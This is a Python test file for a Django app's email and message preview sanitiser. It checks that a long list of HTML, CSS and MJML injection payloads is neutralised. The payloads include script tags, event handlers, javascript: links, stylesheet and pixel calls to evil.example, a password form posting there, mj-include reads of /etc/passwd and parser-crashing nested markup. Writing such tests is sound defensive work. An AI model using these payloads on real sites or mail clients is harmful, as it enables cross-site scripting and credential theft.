"""The preview shows a message and does nothing else, whatever was written into it."""

import re
import threading
from html.parser import HTMLParser

import pytest
from django.test import Client

from content import definition, preview
from content.allowed import ATTRIBUTES, HTML_TAGS
from content.markup import MAX_DEPTH, MAX_TAGS, Rewriter
from content.mjml import DoesNotCompile, compile_mjml
from content.sanitising import TooLarge, declarations, sanitised
from people.services import set_membership
from tests.factories import AssetFactory, TeamFactory, UserFactory, email_document
from tests.real import real_path

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script>/*</script><img src=x onerror=alert(1)>*/",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'>",
    '<img src="x"onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<p onclick=alert(1) onmouseover='alert(1)'>x</p>",
    "<body onload=alert(1)>x",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='https://evil.example/'>x</a>",
    "<a href='//evil.example/' target=_top ping=//evil.example>x</a>",
    "<img src='javascript:alert(1)'>",
    "<img src='https://evil.example/pixel.gif' width=1>",
    "<img srcset='https://evil.example/a.png 2x' src='a.png'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<picture><source srcset='https://evil.example/a.png'><img src=a></picture>",
    "<table background='https://evil.example/a.png'><tr><td background=//evil.example>x</table>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'><img src=a.png>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<style>@import 'https://evil.example/a.css'; p{color:red}</style><p>x",
    "<style>p{background:url(https://evil.example/a.png)}</style><p>x",
    "<style>@font-face{font-family:f;src:url(//evil.example/f)} p{font-family:f}</style><p>x",
    "<style>p{background:image-set('https://evil.example/a.png' 1x)}</style><p>x",
    "<style>p{content:'</style><script>alert(1)</script>'}</style><p>x",
    "<style><!--</style><script>alert(1)</script>--></style>",
    "<p style='background:url(https://evil.example/a.png)'>x</p>",
    "<p style='background:u\\72l(https://evil.example/a.png)'>x</p>",
    "<p style='background:URL (https://evil.example/a.png)'>x</p>",
    "<p style='background-image:-webkit-image-set(\"//evil.example/a\" 1x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml)'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<p style='position:fixed;top:0;z-index:9999'>x</p>",
    "<p style='color:red;@import \"//evil.example\"'>x</p>",
    "<form action='https://evil.example/'><input name=password><button>Go</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object><embed src='//evil.example/x'>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title></title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<video src='https://evil.example/v' poster='//evil.example/p'></video>",
    "<audio autoplay src='https://evil.example/a'></audio>",
    "<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x</details>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<font color='\"><img src=x onerror=alert(1)>'>x</font>",
    "<p title='unclosed><script>alert(1)</script>",
    "<p\x0conclick=alert(1)>x</p>",
    "<a name='x' href='\x01javascript:alert(1)'>x</a>",
    "<img src=cid:logo>",
    "</div></div></body></html><script>alert(1)</script>",
]


class Reader(HTMLParser):
    """What a browser would see: the tags with their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, {name: value or "" for name, value in attrs}))


def tags_of(html: str) -> list[tuple[str, dict[str, str]]]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.seen


def assert_harmless(html: str, tags=HTML_TAGS):
    for tag, attributes in tags_of(html):
        assert tag in tags, html
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, frozenset())
        assert set(attributes) <= allowed, html
        if "src" in attributes:
            assert attributes["src"].startswith("data:image/"), html
        style = attributes.get("style", "").lower()
        assert not re.search(r"url|expression|@|position|image-set|binding|behavior|\\", style)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "<p>before{}after</p>", "<table><tr><td>{}</table>"])
def test_an_attack_in_html_is_disarmed(attack, around):
    assert_harmless(sanitised(around.format(attack)))


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "around",
    [
        "<mjml><mj-body><mj-raw>{}</mj-raw></mj-body></mjml>",
        "<mjml><mj-body><mj-section><mj-column><mj-text>{}</mj-text></mj-column></mj-section>"
        "</mj-body></mjml>",
        "<mjml><mj-head><mj-style>{}</mj-style></mj-head><mj-body></mj-body></mjml>",
        "<mjml><mj-head><mj-preview>{}</mj-preview></mj-head><mj-body></mj-body></mjml>",
    ],
)
def test_an_attack_in_mjml_is_disarmed(attack, around):
    try:
        html = compile_mjml(around.format(attack)).html
    except DoesNotCompile:
        return
    assert_harmless(sanitised(html))


@pytest.mark.parametrize(
    "attribute", ["background-url", "src", "href", "css-class", "border", "font-family"]
)
def test_an_attack_in_an_attribute_of_mjml_is_disarmed(attribute):
    for value in ("javascript:alert(1)", "&quot;&gt;&lt;script&gt;alert(1)", "url(//evil.example)"):
        source = (
            f'<mjml><mj-body><mj-section {attribute}="{value}"><mj-column {attribute}="{value}">'
            f'<mj-image {attribute}="{value}"/><mj-button {attribute}="{value}">x</mj-button>'
            "</mj-column></mj-section></mj-body></mjml>"
        )
        assert_harmless(sanitised(compile_mjml(source).html))


def test_mjml_includes_no_files():
    for path in ("/etc/passwd", "file:///etc/passwd", "https://evil.example/x.mjml"):
        source = f'<mjml><mj-body><mj-include path="{path}"/></mj-body></mjml>'
        compiled = compile_mjml(source)
        assert [problem.name for problem in compiled.problems] == ["mj-include"]
        assert "root:" not in compiled.html


def test_harmless_markup_stays():
    html = sanitised(
        "<html><head><title>T</title><style>.big{font-size:20px}</style></head>"
        "<body bgcolor='#eee' style='margin:0'><table width=600><tr><td align=center>"
        "<h1 class=big style='color:rgb(1,2,3)'>Héllo &amp; 你好 &copy;</h1>a &lt; b<br></td></tr>"
        "</table></body></html>"
    )
    assert 'bgcolor="#eee"' in html
    assert "font-size:20px" in html.replace(" ", "")
    assert "color:rgb(1,2,3)" in html.replace(" ", "")
    assert "Héllo &amp; 你好 ©" in html
    assert "a &lt; b<br>" in html


def test_a_picture_is_replaced_by_a_labelled_placeholder():
    html = sanitised('<img src="https://bank.example/img/hero.png?x=1" alt="A hero" width="600">')
    (_div, (tag, attributes)) = tags_of(html)
    assert (tag, attributes["alt"], attributes["width"]) == ("img", "A hero", "600")
    assert "hero.png" in attributes["src"]
    assert "bank.example" not in html


def test_an_embedded_picture_stays():
    pixel = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="
    assert pixel in sanitised(f'<img src="{pixel}">')


def test_links_are_listed_and_not_followed():
    body = '<a href="https://bank.example/a">A</a><a href=\'{{ url }}\'>B</a><link href="x.css">'
    assert "href" not in sanitised(body)
    rendition = {"body": body + body}
    assert preview.links(rendition) == ["https://bank.example/a", "{{ url }}"]


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color:red;background:url(x)", "color:red"),
        ("width:calc(100% - 2px)", "width:calc(100% - 2px)"),
        ("width:calc((1px))", ""),
        ("color:re/**/d", ""),
        ("background:linear-gradient(red,blue)", "background:linear-gradient(red,blue)"),
        ("background:\\75rl(x)", ""),
    ],
)
def test_declarations(style, kept):
    assert declarations(style) == kept


DEEP = [
    "<div>" * 100_000,
    "<b>" * 100_000,
    "".join(f"<p><b title={n}></p>" for n in range(50_000)),
    "<table><tr><td>" * 50_000,
    "<!--><div>" * 50_000,
    "<mj-wrapper>" * 50_000,
    "<svg>" * 100_000,
]


@pytest.mark.parametrize("source", DEEP, ids=range(len(DEEP)))
def test_markup_that_would_end_the_process_is_cut_off(source):
    stack = threading.stack_size(1024 * 1024)  # half of what a server's thread has
    survived = []

    def show():
        sanitised("<style>div{color:red}</style>" + source)
        compiled = compile_mjml(f"<mjml><mj-body>{source}")
        sanitised(compiled.html)
        survived.append(True)

    thread = threading.Thread(target=show)
    try:
        thread.start()
    finally:
        threading.stack_size(stack)
    thread.join(60)
    assert survived == [True]


def test_nothing_is_nested_deeper_than_parsers_bear():
    rewriter = Rewriter(allowed={"div"})
    html = rewriter.write("<div>" * 500)
    assert html.count("<div>") == html.count("</div>") == MAX_DEPTH
    assert {problem.code for problem in rewriter.problems} == {"too-deep", "unclosed"}


def test_an_absurd_number_of_tags_is_cut_off():
    rewriter = Rewriter(allowed={"p"})
    assert rewriter.write("<p>x</p>" * MAX_TAGS * 2).count("<p>") == MAX_TAGS


def test_what_would_take_too_long_is_not_shown():
    with pytest.raises(TooLarge):
        sanitised("x&" * 600_000)


def test_styles_that_would_take_too_long_are_left_out():
    html = sanitised("<style>" + "p{color:red}" * 2_000 + "</style>" + "<p>x</p>" * 5_000)
    assert "color" not in html


@pytest.mark.real_data
def test_real_emails_are_shown_without_their_addresses():
    found = sorted(real_path("email").glob("*/*.html"))
    assert found
    for path in found:
        html = sanitised(path.read_text())
        assert_harmless(html)
        assert "http" not in re.sub(r'src="[^"]*"', "", html).replace("http-equiv", ""), path


def page_of(document, key="en"):
    return preview.page(definition.complete(document), key)


def test_text_messages_are_plain_text():
    html = page_of(
        {"kind": "sms", "renditions": [{"key": "en", "text": "Hi <b>you</b> & <script>x"}]}
    )
    assert "Hi &lt;b&gt;you&lt;/b&gt; &amp; &lt;script&gt;x" in html
    assert "script" not in {tag for tag, _attributes in tags_of(html)}


def test_push_messages_are_plain_text():
    rendition = {"key": "en", "title": "<i>T", "text": "<i>B", "link": "javascript:alert(1)"}
    html = page_of({"kind": "push", "renditions": [rendition]})
    assert "<b>&lt;i&gt;T</b>" in html
    assert not {"i", "a"} & {tag for tag, _attributes in tags_of(html)}


def test_a_page_is_in_the_language_of_its_rendition():
    assert '<html lang="zh-Hans">' in page_of(email_document(), "zh-hans")


@pytest.mark.parametrize(
    ("renditions", "note"),
    [
        ([], "There is no version in this language."),
        ([{"key": "en"}], "The message is empty."),
        ([{"key": "en", "format": "mjml", "body": "no mjml"}], "The MJML does not compile"),
        ([{"key": "en", "body": "<p>" * 400_000}], "The message is too large to be shown."),
    ],
)
def test_where_there_is_nothing_to_show_a_sentence_says_so(renditions, note):
    assert note in page_of({"kind": "email", "renditions": renditions})


ADDRESS = "/content/{}/versions/{}/preview/"


@pytest.fixture
def asset(db):
    return AssetFactory(key="welcome", is_restricted=True)


def test_whoever_sees_the_asset_gets_a_locked_page(client: Client, asset):
    member = UserFactory()
    set_membership(team=asset.team, user=member, actor=None)
    client.force_login(member)
    response = client.get(ADDRESS.format("welcome", 1), {"rendition": "zh-hans"})
    assert response.status_code == 200
    assert "欢迎" in response.text
    assert response["Content-Security-Policy"] == preview.POLICY
    assert response["X-Frame-Options"] == "SAMEORIGIN"
    assert response["X-Content-Type-Options"] == "nosniff"
    directives = [part.strip() for part in preview.POLICY.split(";")]
    assert {"default-src 'none'", "sandbox", "frame-ancestors 'self'"} <= set(directives)
    assert "script-src" not in preview.POLICY


@pytest.mark.parametrize(("key", "number"), [("welcome", 1), ("welcome", 2), ("none", 1)])
def test_missing_and_invisible_look_alike(client: Client, asset, key, number):
    outsider = UserFactory()
    TeamFactory(members=[outsider])
    client.force_login(outsider)
    assert client.get(ADDRESS.format(key, number)).status_code == 404


def test_whoever_is_not_signed_in_is_asked_to(client: Client, asset):
    response = client.get(ADDRESS.format("welcome", 1))
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")
